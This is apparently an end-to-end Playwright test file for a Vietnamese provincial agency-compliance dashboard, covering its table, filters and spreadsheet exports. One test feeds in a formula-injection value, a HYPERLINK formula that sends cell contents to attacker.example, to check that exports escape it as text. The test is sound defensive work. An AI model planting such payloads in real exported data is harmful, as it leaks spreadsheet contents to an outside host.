import fs from "node:fs";
import path from "node:path";
import ExcelJS from "exceljs";
import type { Browser } from "playwright-core";
import { describeInBrowserOnce, launchBrowser, screenshot, seriousAccessibilityViolations, signInAs } from "../support/browser";
import { official, queryData } from "../support/graphql-client";
import { startHub, type RunningHub } from "../support/hub";
import { temporaryDataDirectory } from "../support/temporary-folder";

// the table and its export read what the API answers, proven on both databases: once, in the first pass
describeInBrowserOnce("agency compliance in the browser: the table, and its export as a spreadsheet", () => {
  let hub: RunningHub;
  let browser: Browser;
  let origin: string;
  let agencies: { code: string; name: string }[];
  const downloads = temporaryDataDirectory("exports");
  beforeAll(async () => {
    hub = await startHub();
    origin = new URL(hub.gateway.url).origin;
    browser = await launchBrowser();
    agencies = await agenciesOf(2019);
  });
  afterAll(async () => {
    await browser?.close();
    await hub?.stop();
    downloads.cleanup();
  });

  /** Gia Lai's agencies that existed on some day of the year, and those of them without a focal point. */
  const agenciesOf = (year: number, withoutFocalPoints = false): Promise<{ code: string; name: string }[]> =>
    hub.subgraphs.plans.database.dataSource.query(
      `SELECT a.code, a.name FROM agency a WHERE a.provinceCode = 'VN-30'
         AND (a.validFrom IS NULL OR a.validFrom <= '${year}-12-31') AND (a.validUntil IS NULL OR a.validUntil >= '${year}-01-01')
         ${withoutFocalPoints ? "AND NOT EXISTS (SELECT 1 FROM focal_point f WHERE f.agencyId = a.id)" : ""}
       ORDER BY a.code`,
    );

  it("lists every Gia Lai agency of the year with its report states, and exports them as .xlsx and .csv with the Vietnamese intact", async () => {
    const page = await browser.newPage({ acceptDownloads: true });
    await signInAs(page, origin, "Điều phối viên Sở TT&TT Gia Lai");
    await page.goto(`${origin}/compliance/VN-30/2019`);
    const rows = page.locator(".ant-table-tbody tr.ant-table-row");
    await rows.first().waitFor();
    expect(await rows.count()).toBe(agencies.length);
    await page.getByText("Thời hạn chưa xác định").first().waitFor(); // the annual deadline "31/11/2019"
    // those to chase first: every agency with a missing six-month report, then the late ones
    const states = await rows.evaluateAll((trs) =>
      trs.map((tr) => (tr.textContent ?? "").match(/6 tháng: (Chưa nộp|Trễ hạn|Đúng hạn)/)?.[1] ?? ""),
    );
    const order = ["Chưa nộp", "Trễ hạn", "Đúng hạn", ""];
    expect(states.map((s) => order.indexOf(s))).toEqual([...states.map((s) => order.indexOf(s))].sort((a, b) => a - b));
    expect(states[0]).toBe("Chưa nộp");
    // and only the late ones, filtered by state
    const filter = page.getByRole("columnheader", { name: /^Báo cáo/ }).locator(".ant-table-filter-trigger");
    await filter.click();
    await page.locator(".ant-dropdown:visible .ant-dropdown-menu-item").filter({ hasText: "Trễ hạn" }).click();
    await page.locator(".ant-dropdown:visible").getByRole("button", { name: "Đồng ý" }).click();
    await rows.first().waitFor();
    expect(await rows.count()).toBe(states.filter((s) => s === "Trễ hạn").length);
    await filter.click();
    await page.locator(".ant-dropdown:visible").getByRole("button", { name: "Bỏ lọc" }).click();
    await page.locator(".ant-dropdown:visible").getByRole("button", { name: "Đồng ý" }).click();
    expect(await page.getByRole("button", { name: "Xuất CSV" }).isEnabled()).toBe(true);
    await screenshot(page, "compliance-gia-lai-2019");
    expect(await seriousAccessibilityViolations(page)).toEqual([]);

    const [xlsx] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Xuất Excel (.xlsx)" }).click()]);
    const xlsxFile = path.join(downloads.directory, xlsx.suggestedFilename());
    await xlsx.saveAs(xlsxFile);
    expect(xlsx.suggestedFilename()).toBe("bao-cao-tuan-thu-VN-30-2019.xlsx");
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(xlsxFile);
    const sheet = workbook.worksheets[0];
    expect(sheet.rowCount).toBe(agencies.length + 1);
    expect(sheet.getRow(1).getCell(2).value).toBe("Cơ quan");
    const names = Array.from({ length: agencies.length }, (_, i) => String(sheet.getRow(i + 2).getCell(2).value));
    expect(names.sort()).toEqual(agencies.map((a) => a.name).sort());

    const [csv] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Xuất CSV" }).click()]);
    const csvFile = path.join(downloads.directory, csv.suggestedFilename());
    await csv.saveAs(csvFile);
    const text = fs.readFileSync(csvFile, "utf8");
    expect(text.startsWith("\uFEFF")).toBe(true);
    expect(text.trim().split("\r\n")).toHaveLength(agencies.length + 1);
    expect(text).toContain("Sở Thông tin và Truyền thông");
    // begun by the 2025 reorganisation: not Gia Lai's in 2019
    expect(text).not.toContain("Sở Khoa học và Công nghệ");
    await page.close();
  });

  it("counts no agency ended or begun by the 2025 reorganisation as owing a focal point in a year it did not exist", async () => {
    const page = await browser.newPage();
    await signInAs(page, origin, "Điều phối viên Sở VHTTDL Gia Lai");
    await page.goto(`${origin}/compliance/VN-30/2026`);
    const rows = page.locator(".ant-table-tbody tr.ant-table-row");
    await rows.first().waitFor();
    const of2026 = await agenciesOf(2026);
    expect(await rows.count()).toBe(of2026.length);
    const listed = await rows.locator("td:nth-child(2)").allInnerTexts();
    expect(listed.sort()).toEqual(of2026.map((a) => a.name).sort());
    // the information department, ended on 28/02/2025, and a district committee, ended with the districts on 30/06/2025
    expect(listed).not.toContain("Sở Thông tin và Truyền thông");
    expect(listed.some((name) => name.startsWith("Ủy ban nhân dân huyện"))).toBe(false);
    expect(listed).toContain("Sở Khoa học và Công nghệ");
    const withoutFocalPoints = (await agenciesOf(2026, true)).length;
    expect(withoutFocalPoints).toBeGreaterThan(0);
    await page.getByText(`${withoutFocalPoints} cơ quan chưa cử đầu mối`, { exact: true }).waitFor();

    // a district committee's own page in 2026: ended, not "no focal point named"
    await page.goto(`${origin}/provinces/VN-30/2026/agencies/${encodeURIComponent("UBND-H:Ia Grai")}`);
    const focalPoints = page.getByTestId("agency-focal-points");
    await focalPoints.getByText("Hoạt động đến 30/06/2025", { exact: true }).waitFor();
    expect(await focalPoints.innerText()).not.toContain("Chưa cử đầu mối");
    // it owed no report in 2026 either: not "no period yet this year"
    await page.getByTestId("agency-reports").getByText("Hoạt động đến 30/06/2025", { exact: true }).waitFor();
    await screenshot(page, "agency-ended-district-gia-lai-2026");
    // and in 2019, when it existed, it owed one
    await page.goto(`${origin}/provinces/VN-30/2019/agencies/${encodeURIComponent("UBND-H:Ia Grai")}`);
    await page.getByTestId("agency-focal-points").getByText("Chưa cử đầu mối", { exact: true }).waitFor();
    await page.close();
  });

  it("still lists an ended agency that a plan of the year names to lead a task, without asking it for a focal point", async () => {
    const database = hub.subgraphs.plans.database.dataSource;
    const [task] = await database.query(`SELECT id FROM task WHERE provinceCode = 'VN-30' AND year = 2026 ORDER BY id LIMIT 1`);
    // a plan written from an old template that still names the district committee
    const participant = `${task.id}:LEAD:ended-district`;
    await database.query(
      `INSERT INTO task_participant (id, taskId, role, position, agencyId, nameAsWritten) VALUES (?, ?, 'LEAD', 99, ?, ?)`,
      [participant, task.id, "VN-30-UBND-H-ia-grai", "Ủy ban nhân dân huyện Ia Grai"],
    );
    try {
      const page = await browser.newPage();
      await signInAs(page, origin, "Điều phối viên Sở VHTTDL Gia Lai");
      await page.goto(`${origin}/compliance/VN-30/2026`);
      const rows = page.locator(".ant-table-tbody tr.ant-table-row");
      const district = rows.filter({ hasText: "Ủy ban nhân dân huyện Ia Grai" });
      await district.waitFor();
      expect(await rows.count()).toBe((await agenciesOf(2026)).length + 1);
      await district.getByText("Hoạt động đến 30/06/2025", { exact: true }).waitFor();
      expect(await district.innerText()).not.toContain("Chưa cử đầu mối");
      await page.getByText(`${(await agenciesOf(2026, true)).length} cơ quan chưa cử đầu mối`, { exact: true }).waitFor();
      await page.close();
    } finally {
      await database.query(`DELETE FROM task_participant WHERE id = ?`, [participant]);
    }
  });

  it("writes a focal point named like a formula into the .csv and .xlsx as text, never a formula", async () => {
    const formula = `=HYPERLINK("http://attacker.example/?"&A1,"Chi tiet")`;
    await queryData(
      hub.gateway.url,
      /* GraphQL */ `
        mutation ($input: FocalPointInput!) {
          createFocalPoint(input: $input) {
            id
          }
        }
      `,
      { input: { agencyId: "VN-30-SCT", role: "LEADER", fullName: formula, position: "+84 Giám đốc" } },
      { as: official({ provinceCode: "VN-30", agencyCode: "SCT", role: "editor" }) },
    );
    const page = await browser.newPage({ acceptDownloads: true });
    await signInAs(page, origin, "Điều phối viên Sở TT&TT Gia Lai");
    await page.goto(`${origin}/compliance/VN-30/2019`);
    await page.getByText(formula).first().waitFor();

    const [csv] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Xuất CSV" }).click()]);
    const csvFile = path.join(downloads.directory, `formula-${csv.suggestedFilename()}`);
    await csv.saveAs(csvFile);
    const row = fs
      .readFileSync(csvFile, "utf8")
      .split("\r\n")
      .find((line) => line.startsWith("SCT,"))!;
    // the cell opens with an apostrophe, so Excel shows the text; quoted, since it holds commas and quotes
    expect(row).toContain(`"'${formula.replace(/"/g, '""')}, +84 Giám đốc"`);

    const [xlsx] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Xuất Excel (.xlsx)" }).click()]);
    const xlsxFile = path.join(downloads.directory, `formula-${xlsx.suggestedFilename()}`);
    await xlsx.saveAs(xlsxFile);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(xlsxFile);
    const sheet = workbook.worksheets[0];
    const cells = sheet.getSheetValues().flatMap((values) => (Array.isArray(values) ? values : []));
    expect(cells.some((value) => typeof value === "object" && value !== null && "formula" in value)).toBe(false);
    expect(cells).toContain(`${formula}, +84 Giám đốc`);
    // the count of tasks each agency leads is a number, the header frozen and filtered
    expect(typeof sheet.getRow(2).getCell(5).value).toBe("number");
    expect(sheet.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
    expect(sheet.autoFilter).toBeTruthy();
    await page.close();
  });
});
